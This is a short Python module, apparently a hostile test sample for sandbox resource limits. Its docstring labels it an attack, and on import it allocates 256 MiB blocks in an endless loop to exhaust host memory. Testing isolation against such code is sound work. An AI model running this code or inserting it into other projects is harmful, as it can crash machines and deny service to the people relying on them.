"""Attack: take all host memory (every page touched) at import."""
hog = []
while True:
    hog.append(b"\x01" * (256 << 20))
